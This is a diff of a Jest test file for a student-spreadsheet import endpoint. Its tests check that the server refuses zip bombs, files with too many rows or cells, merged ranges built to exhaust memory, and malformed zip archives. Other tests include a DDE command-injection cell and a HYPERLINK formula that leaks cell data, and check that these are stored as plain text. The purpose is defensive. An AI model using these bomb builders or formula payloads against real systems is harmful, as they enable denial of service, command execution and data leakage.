@@ -1,4 +1,5 @@
-import { crc32, deflateRawSync } from 'node:zlib';
+import { randomInt } from 'node:crypto';
+import { constants, deflateRawSync } from 'node:zlib';
 import { eq, sql } from 'drizzle-orm';
 import { MSG, type StudentSummary } from '@psicocampus/shared/domain';
 import { students } from '../../db/schema';
@@ -6,13 +7,26 @@ import { fileUpload, multipartBody } from '../../../test/helpers/multipart';
 import { auditRowsOf, createStudent, userIdOf } from '../../../test/helpers/patients';
 import { startTestServer, type TestServer } from '../../../test/helpers/test-server';
 import {
+  columnLetters,
+  handWrittenWorkbookParts,
+  sheetDataXml,
   studentRow,
   TEMPLATE_HEADERS,
   xlsFile,
+  xlsWithUnknownRecords,
   xlsxFile,
+  zipArchive,
+  type HandWrittenWorkbook,
   type SheetCell,
+  type ZipPart,
 } from '../../../test/helpers/workbooks';
-import { checkZipInflatedSize, UnreadableSpreadsheetError } from './spreadsheet';
+import {
+  inspectZip,
+  readFirstSheet,
+  SPREADSHEET_LIMITS,
+  SpreadsheetTooLargeError,
+  UnreadableSpreadsheetError,
+} from './spreadsheet';
 
 let server: TestServer;
 let lucia: string;
@@ -45,39 +59,6 @@ const studentByEmail = async (email: string) => {
     .where(eq(sql`lower(${students.email})`, email.toLowerCase()));
   return row;
 };
-
-/**
- * A zip with one deflated entry, as an .xlsx packs its parts; `declaredSize`
- * makes its headers lie about the entry's inflated size.
- */
-function zipOf(name: string, content: Buffer, declaredSize = content.length): Buffer {
-  const data = deflateRawSync(content);
-  const nameBytes = Buffer.from(name);
-  const local = Buffer.alloc(30);
-  local.writeUInt32LE(0x04034b50, 0);
-  local.writeUInt16LE(20, 4);
-  local.writeUInt16LE(8, 8);
-  local.writeUInt32LE(crc32(content), 14);
-  local.writeUInt32LE(data.length, 18);
-  local.writeUInt32LE(declaredSize, 22);
-  local.writeUInt16LE(nameBytes.length, 26);
-  const central = Buffer.alloc(46);
-  central.writeUInt32LE(0x02014b50, 0);
-  central.writeUInt16LE(20, 4);
-  central.writeUInt16LE(20, 6);
-  central.writeUInt16LE(8, 10);
-  central.writeUInt32LE(crc32(content), 16);
-  central.writeUInt32LE(data.length, 20);
-  central.writeUInt32LE(declaredSize, 24);
-  central.writeUInt16LE(nameBytes.length, 28);
-  const end = Buffer.alloc(22);
-  end.writeUInt32LE(0x06054b50, 0);
-  end.writeUInt16LE(1, 8);
-  end.writeUInt16LE(1, 10);
-  end.writeUInt32LE(central.length + nameBytes.length, 12);
-  end.writeUInt32LE(local.length + nameBytes.length + data.length, 16);
-  return Buffer.concat([local, nameBytes, data, central, nameBytes, end]);
-}
 
 describe('POST /api/students/import', () => {
   it("creates every row's student, assigned to and created by the importer", async () => {
@@ -436,9 +417,7 @@ describe('POST /api/students/import', () => {
   it('says a damaged spreadsheet cannot be read', async () => {
     const truncated = (await sheetWith([studentRow(60)])).subarray(0, 600);
     const fakeXls = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(700, 1)]);
-    // A zip, but a Word document's, not a workbook.
-    const notAWorkbook = zipOf('word/document.xml', Buffer.from('<w:document/>'));
-    for (const file of [truncated, fakeXls, notAWorkbook]) {
+    for (const file of [truncated, fakeXls]) {
       const response = await importFile(lucia, file);
       expect(response.statusCode).toBe(400);
       expect(response.json()).toEqual({ ok: false, msg: MSG.import.unreadable });
@@ -523,16 +502,412 @@ describe('multipart bodies elsewhere', () => {
   });
 });
 
-describe('checkZipInflatedSize', () => {
-  it('refuses a small zip that inflates past the cap, whatever sizes it declares', () => {
-    const bomb = zipOf('xl/worksheets/sheet1.xml', Buffer.alloc(2 * 1024 * 1024), 10);
-    expect(bomb.length).toBeLessThan(10_000);
-    expect(() => checkZipInflatedSize(bomb, 1024 * 1024)).toThrow(UnreadableSpreadsheetError);
-    expect(() => checkZipInflatedSize(bomb, 4 * 1024 * 1024)).not.toThrow();
+/** A hand-written .xlsx: the template's header, these rows, and whatever else `sheet` adds. */
+const handWritten = (
+  rows: Array<Array<string | number | null>>,
+  sheet: Omit<HandWrittenWorkbook, 'sheetData'> = {},
+) =>
+  zipArchive(
+    handWrittenWorkbookParts({
+      sheetData: sheetDataXml([[...TEMPLATE_HEADERS], ...rows]),
+      ...sheet,
+    }),
+  );
+const plainRow = (n: number, overrides: Partial<Record<string, SheetCell>> = {}) =>
+  studentRow(n, overrides) as Array<string | number | null>;
+
+/**
+ * A call, and how far it raised the process's peak resident memory (the
+ * server runs in this process). The peak, not samples: an entry inflated
+ * whole in one synchronous call would come and go between two samples.
+ */
+async function watched<T>(call: () => Promise<T>) {
+  const peakBefore = process.resourceUsage().maxRSS;
+  const result = await call();
+  return { result, growth: (process.resourceUsage().maxRSS - peakBefore) * 1024 };
+}
+const MB = 1024 * 1024;
+
+/**
+ * A raw deflate stream of `head`, `block` repeated `times`, then `tail`,
+ * built without ever holding the inflated whole (which would also hide the
+ * server's own use of memory): each piece is deflated alone and fully
+ * flushed, so that copies of it can follow one another.
+ */
+function deflatedSheet(head: string, block: Buffer, times: number, tail: string) {
+  const flushed = (content: Buffer) =>
+    deflateRawSync(content, { finishFlush: constants.Z_FULL_FLUSH });
+  const segment = flushed(block);
+  const deflated = Buffer.concat([
+    flushed(Buffer.from(head)),
+    ...Array.from({ length: times }, () => segment),
+    deflateRawSync(Buffer.from(tail)),
+  ]);
+  return { deflated, inflatedSize: head.length + block.length * times + tail.length };
+}
+
+/** Why inspectZip refuses a file (it fails the test when it accepts it). */
+async function refusal(file: Buffer): Promise<SpreadsheetTooLargeError> {
+  const error: unknown = await inspectZip(file).then(
+    () => new Error('inspectZip accepted the file'),
+    (refused: unknown) => refused,
+  );
+  if (!(error instanceof SpreadsheetTooLargeError)) throw error;
+  return error;
+}
+
+/** An .xlsx whose sheet part is this raw deflate stream. */
+const workbookWithDeflatedSheet = (deflated: Buffer) =>
+  zipArchive(
+    handWrittenWorkbookParts({ sheetData: '' }).map((part) =>
+      part.name === 'xl/worksheets/sheet1.xml'
+        ? { name: part.name, content: deflated, preDeflated: true }
+        : part,
+    ),
+  );
+
+/** One megabyte that deflate packs about 40:1: mostly one letter, now and then another. */
+function compressibleMegabyte(): Buffer {
+  const block = Buffer.alloc(MB, 'a');
+  for (let at = 0; at < block.length; at += randomInt(1, 256)) block[at] = 98 + randomInt(25);
+  return block;
+}
+
+describe('files built to exhaust the server', () => {
+  let nextRowNumber = 330;
+
+  it('refuses a zip bomb whose sheet inflates past 50 MB, without ever holding it', async () => {
+    // One cell of 64 MB of text: under every ratio limit, so that only the
+    // 50 MB limit can refuse it.
+    const { deflated, inflatedSize } = deflatedSheet(
+      '<row r="1"><c r="A1" t="inlineStr"><is><t>',
+      compressibleMegabyte(),
+      64,
+      '</t></is></c></row>',
+    );
+    const bomb = workbookWithDeflatedSheet(deflated);
+    expect(inflatedSize / bomb.length).toBeLessThan(SPREADSHEET_LIMITS.maxRatio);
+    expect(bomb.length).toBeLessThan(5 * MB);
+    // Refused once 50 MB are through, one 64 KB chunk at a time.
+    const refused = await refusal(bomb);
+    expect(refused).toMatchObject({ excess: 'inflated-size' });
+    expect(refused.inflatedBytes).toBeLessThan(50 * MB + 128 * 1024);
+
+    const before = await studentCount();
+    const { result: response, growth } = await watched(() => importFile(lucia, bomb));
+    expect(response.statusCode).toBe(400);
+    expect(response.json()).toEqual({ ok: false, msg: MSG.import.tooMuchContent });
+    expect(growth).toBeLessThan(inflatedSize / 4);
+    expect(await studentCount()).toBe(before);
   });
 
-  it('accepts a real workbook', async () => {
-    const file = await sheetWith([studentRow(1)]);
-    expect(() => checkZipInflatedSize(file, 1024 * 1024)).not.toThrow();
+  it('refuses a part past 100:1 as soon as its first megabytes show it', async () => {
+    // 4 GB of zeros in a 4 MB upload: the classic bomb; then 20 MB of them.
+    const zeros = (megabytes: number) => {
+      const { deflated } = deflatedSheet('', Buffer.alloc(MB), megabytes, '');
+      return workbookWithDeflatedSheet(deflated);
+    };
+    for (const [bomb, inflatedSize] of [
+      [zeros(4096), 4096 * MB],
+      [zeros(20), 20 * MB],
+    ] as const) {
+      expect(bomb.length).toBeLessThan(5 * MB);
+      // Refused after the first megabyte (the ratio is not judged on less).
+      const refused = await refusal(bomb);
+      expect(refused).toMatchObject({ excess: 'ratio' });
+      expect(refused.inflatedBytes).toBeLessThan(MB + 128 * 1024);
+      const { result: response, growth } = await watched(() => importFile(lucia, bomb));
+      expect(response.statusCode).toBe(400);
+      expect(response.json()).toEqual({ ok: false, msg: MSG.import.tooMuchContent });
+      expect(growth).toBeLessThan(inflatedSize / 4);
+    }
+  });
+
+  it('refuses a sheet of 25,000 rows before parsing it', async () => {
+    const emptyRows = Array.from({ length: 25_000 }, (_, n) => `<row r="${n + 3}"/>`).join('');
+    const file = zipArchive(
+      handWrittenWorkbookParts({
+        sheetData: sheetDataXml([[...TEMPLATE_HEADERS], plainRow(300)]) + emptyRows,
+      }),
+    );
+    expect(await refusal(file)).toMatchObject({ excess: 'rows' });
+    const response = await importFile(lucia, file);
+    expect(response.statusCode).toBe(400);
+    expect(response.json()).toEqual({ ok: false, msg: MSG.import.tooManyRows });
+    expect(await studentByEmail('importado300@estudiantes.test')).toBeUndefined();
+  });
+
+  it('refuses more than 200,000 cells or shared strings before parsing them', async () => {
+    const blankCells = Array.from({ length: 5_000 }, (_, r) => {
+      const cells = Array.from(
+        { length: 41 },
+        (__, c) => `<c r="${columnLetters(c)}${r + 3}" s="0"/>`,
+      );
+      return `<row r="${r + 3}">${cells.join('')}</row>`;
+    }).join('');
+    const formattedBlanks = zipArchive(
+      handWrittenWorkbookParts({
+        sheetData: sheetDataXml([[...TEMPLATE_HEADERS], plainRow(310)]) + blankCells,
+      }),
+    );
+    const strings = Array.from({ length: 200_001 }, (_, n) => `<si><t>${n.toString(36)}</t></si>`);
+    const sharedStrings = zipArchive([
+      ...handWrittenWorkbookParts({
+        sheetData: sheetDataXml([[...TEMPLATE_HEADERS], plainRow(311)]),
+      }),
+      { name: 'xl/sharedStrings.xml', content: `<sst>${strings.join('')}</sst>` },
+    ]);
+    for (const file of [formattedBlanks, sharedStrings]) {
+      expect(await refusal(file)).toMatchObject({ excess: 'cells' });
+      const response = await importFile(lucia, file);
+      expect(response.statusCode).toBe(400);
+      expect(response.json()).toEqual({ ok: false, msg: MSG.import.tooMuchContent });
+    }
+    expect(await studentByEmail('importado310@estudiantes.test')).toBeUndefined();
+  });
+
+  it('refuses a zip of more than 1,000 parts', async () => {
+    const parts: ZipPart[] = [
+      ...handWrittenWorkbookParts({
+        sheetData: sheetDataXml([[...TEMPLATE_HEADERS], plainRow(320)]),
+      }),
+      ...Array.from({ length: 1_000 }, (_, n) => ({
+        name: `xl/media/x${n}.bin`,
+        content: 'x',
+        stored: true,
+      })),
+    ];
+    const response = await importFile(lucia, zipArchive(parts));
+    expect(response.statusCode).toBe(400);
+    expect(response.json()).toEqual({ ok: false, msg: MSG.import.tooMuchContent });
+  });
+
+  // A few bytes each that exceljs, left to itself, expands into one object per
+  // cell of the range: over the whole sheet (A1:XFD1048576) the server would
+  // hang until it ran out of memory. A million cells (100 to 200 MB, about a
+  // second of a blocked server) is enough for a regression to fail this test
+  // rather than hang it.
+  it.each([
+    [
+      'merged cells',
+      { afterSheetData: '<mergeCells count="1"><mergeCell ref="A3:J100002"/></mergeCells>' },
+    ],
+    [
+      'a data validation',
+      {
+        afterSheetData:
+          '<dataValidations count="1"><dataValidation type="list" sqref="A3:J100002"><formula1>"a,b"</formula1></dataValidation></dataValidations>',
+      },
+    ],
+    ['column widths', { beforeSheetData: '<cols><col min="1" max="1000000" width="12"/></cols>' }],
+    [
+      'a defined name',
+      { definedNames: '<definedName name="Todo">Estudiantes!$A$3:$J$100002</definedName>' },
+    ],
+  ] as const)(
+    'reads a sheet with %s over a million cells without building them',
+    async (_, sheet) => {
+      const file = handWritten([plainRow(nextRowNumber++)], sheet);
+      expect(file.length).toBeLessThan(5_000);
+      const { result: response, growth } = await watched(() => importFile(lucia, file));
+      expect(response.json()).toMatchObject({ ok: true, created: 1 });
+      expect(growth).toBeLessThan(60 * MB);
+    },
+  );
+
+  it('counts the cells of a legacy .xls before SheetJS parses it', async () => {
+    // Not compressed: its 5 MB are the bound, but one cell takes 6 to 18 bytes.
+    const file = xlsFile([[...TEMPLATE_HEADERS], plainRow(340, { 'Ingresos (USD)': 500 })]);
+    const withCells = (maxCells: number) =>
+      readFirstSheet(file, 'xls', { ...SPREADSHEET_LIMITS, maxCells });
+    await expect(withCells(21)).rejects.toMatchObject({ excess: 'cells' });
+    await expect(withCells(22)).resolves.toHaveLength(2);
+    const oversized = Buffer.concat([file, Buffer.alloc(5 * MB)]);
+    const response = await importFile(lucia, oversized, 'estudiantes.xls');
+    expect(response.statusCode).toBe(413);
+    expect(response.json()).toEqual({ ok: false, msg: MSG.import.tooLarge });
+  });
+
+  it('reads a legacy .xls full of unknown records without writing a line per record to the log', async () => {
+    const file = xlsWithUnknownRecords(
+      [[...TEMPLATE_HEADERS], plainRow(420, { 'Ingresos (USD)': 500 })],
+      1_000,
+    );
+    const stderr = jest.spyOn(console, 'error');
+    try {
+      const response = await importFile(lucia, file, 'estudiantes.xls');
+      expect(response.json()).toMatchObject({ ok: true, created: 1 });
+      expect(stderr).not.toHaveBeenCalled();
+    } finally {
+      stderr.mockRestore();
+    }
+  });
+});
+
+describe('cells that are not what they seem', () => {
+  const DDE = "=cmd|' /C calc'!A0";
+  const HYPERLINK = '=HYPERLINK("http://ejemplo.test/?d="&A2,"Ver")';
+
+  it('stores formulas, and text that looks like one, as their text: never evaluated', async () => {
+    const file = await sheetWith([
+      studentRow(400, { Ciudad: DDE }),
+      studentRow(401, { Ciudad: { formula: DDE.slice(1) } }),
+      studentRow(402, { Ciudad: HYPERLINK }),
+      studentRow(403, { Carrera: { formula: HYPERLINK.slice(1) } }),
+      studentRow(404, { Ciudad: '@SUM(1+1)', Carrera: '+1+1' }),
+      studentRow(405, { Ciudad: '-1+1', Carrera: { formula: '1+1' } }),
+    ]);
+    const response = await importFile(lucia, file);
+    expect(response.json()).toMatchObject({ ok: true, created: 6 });
+    const stored = async (n: number) => {
+      const { id } = (await studentByEmail(`importado${n}@estudiantes.test`))!;
+      const detail = await server.call({ method: 'GET', url: `/api/students/${id}`, token: lucia });
+      const { city, career } = detail.json().student as { city: string; career: string };
+      return { city, career };
+    };
+    expect(await stored(400)).toMatchObject({ city: DDE });
+    expect(await stored(401)).toMatchObject({ city: DDE });
+    expect(await stored(402)).toMatchObject({ city: HYPERLINK });
+    expect(await stored(403)).toMatchObject({ career: HYPERLINK });
+    expect(await stored(404)).toEqual({ city: '@SUM(1+1)', career: '+1+1' });
+    expect(await stored(405)).toEqual({ city: '-1+1', career: '=1+1' });
+  });
+
+  it('stores a legacy .xls cell that looks like a formula as its text', async () => {
+    const file = xlsFile([
+      [...TEMPLATE_HEADERS],
+      [
+        'Ana',
+        'Mora',
+        20,
+        'Femenino',
+        'xls.dde@estudiantes.test',
+        '0991234567',
+        DDE,
+        'Derecho',
+        'Primero',
+        'Empleado/a',
+        null,
+      ],
+    ]);
+    expect((await importFile(lucia, file, 'estudiantes.xls')).json()).toMatchObject({
+      ok: true,
+      created: 1,
+    });
+    expect((await studentByEmail('xls.dde@estudiantes.test'))?.city).toBe(DDE);
+  });
+
+  it('answers a Spanish problem per over-long cell, writes nothing, and echoes none of it', async () => {
+    const long = 'a'.repeat(40_000);
+    const file = await sheetWith([
+      studentRow(410),
+      studentRow(411, {
+        Nombres: long,
+        Apellidos: long,
+        'Correo electrónico': `${long}@estudiantes.test`,
+        Teléfono: '9'.repeat(40_000),
+        Ciudad: long,
+        Carrera: long,
+      }),
+    ]);
+    const response = await importFile(lucia, file);
+    expect(response.statusCode).toBe(400);
+    expect(response.json()).toEqual({
+      ok: false,
+      msg: MSG.import.invalidRows(6),
+      errors: [
+        { row: 3, column: 'Nombres', field: 'firstName', msg: MSG.students.nameLength },
+        { row: 3, column: 'Apellidos', field: 'lastName', msg: MSG.students.nameLength },
+        { row: 3, column: 'Correo electrónico', field: 'email', msg: MSG.students.emailInvalid },
+        { row: 3, column: 'Teléfono', field: 'phone', msg: MSG.students.phoneFormat },
+        { row: 3, column: 'Ciudad', field: 'city', msg: MSG.students.cityLength },
+        { row: 3, column: 'Carrera', field: 'career', msg: MSG.students.careerLength },
+      ],
+    });
+    expect(response.body.length).toBeLessThan(2_000);
+    expect(await studentByEmail('importado410@estudiantes.test')).toBeUndefined();
+  });
+});
+
+describe('files that are not spreadsheets', () => {
+  it('refuses text, an image or a Word document named .xlsx', async () => {
+    const text = Buffer.from('Nombres;Apellidos;Edad\nAna;Mora;20\n');
+    const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
+    for (const file of [text, png]) {
+      const response = await importFile(lucia, file, 'estudiantes.xlsx');
+      expect(response.statusCode).toBe(400);
+      expect(response.json()).toEqual({ ok: false, msg: MSG.import.wrongType });
+    }
+    // A zip, as an .xlsx is, but a Word document's: no worksheet in it.
+    const docx = zipArchive([
+      {
+        name: '[Content_Types].xml',
+        content:
+          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
+      },
+      {
+        name: 'word/document.xml',
+        content:
+          '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Nombres</w:t></w:r></w:p></w:body></w:document>',
+      },
+    ]);
+    const response = await importFile(lucia, docx, 'estudiantes.xlsx');
+    expect(response.statusCode).toBe(400);
+    expect(response.json()).toEqual({ ok: false, msg: MSG.import.unreadable });
+  });
+});
+
+describe('inspectZip', () => {
+  const parts = () =>
+    handWrittenWorkbookParts({ sheetData: sheetDataXml([[...TEMPLATE_HEADERS], plainRow(1)]) });
+
+  it('counts the rows, cells and shared strings of every part, across inflated chunks', async () => {
+    const rows = Array.from({ length: 3_000 }, (_, r) =>
+      Array.from({ length: 7 }, (__, c) => (c % 2 ? `t${r}x${c}` : r * c)),
+    );
+    const strings = Array.from({ length: 1_234 }, (_, n) => `<si><t>${n}</t></si>`).join('');
+    // The inflater hands a part over in 64 KB chunks: after two bytes, every
+    // chunk boundary falls in the middle of a `<c/>`.
+    const straddling = `..${'<c/>'.repeat(250_000)}`;
+    const file = zipArchive([
+      ...handWrittenWorkbookParts({ sheetData: sheetDataXml(rows) }),
+      { name: 'xl/sharedStrings.xml', content: `<sst>${strings}</sst>` },
+      { name: 'xl/worksheets/sheet2.xml', content: straddling },
+    ]);
+    await expect(inspectZip(file, { ...SPREADSHEET_LIMITS, maxCells: 1_000_000 })).resolves.toEqual(
+      {
+        entries: 7,
+        inflatedBytes: expect.any(Number),
+        rows: 3_000,
+        cells: 3_000 * 7 + 1_234 + 250_000,
+      },
+    );
+  });
+
+  it('reads the zip as exceljs will, and refuses what would make the two readings differ', async () => {
+    const good = zipArchive(parts());
+    await expect(inspectZip(good)).resolves.toMatchObject({ entries: 5 });
+    // An entry the directory does not count (JSZip would still read it).
+    const uncounted = Buffer.from(good);
+    uncounted.writeUInt16LE(4, uncounted.length - 12);
+    uncounted.writeUInt16LE(4, uncounted.length - 14);
+    // Bytes before the archive: JSZip would shift every offset, this reader would not.
+    const shifted = Buffer.concat([Buffer.alloc(64), good]);
+    // ZIP64 markers, and a compression method JSZip does not know.
+    const zip64 = Buffer.from(good);
+    zip64.writeUInt32LE(0xffffffff, zip64.length - 6);
+    const bzip2 = Buffer.from(good);
+    bzip2.writeUInt16LE(12, bzip2.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 10);
+    for (const file of [uncounted, shifted, zip64, bzip2]) {
+      await expect(inspectZip(file)).rejects.toBeInstanceOf(UnreadableSpreadsheetError);
+    }
+  });
+
+  it('lets readFirstSheet refuse before exceljs opens anything', async () => {
+    const limits = { ...SPREADSHEET_LIMITS, maxCells: 5 };
+    await expect(readFirstSheet(zipArchive(parts()), 'xlsx', limits)).rejects.toMatchObject({
+      excess: 'cells',
+    });
+    await expect(readFirstSheet(zipArchive(parts()), 'xlsx')).resolves.toHaveLength(2);
   });
 });
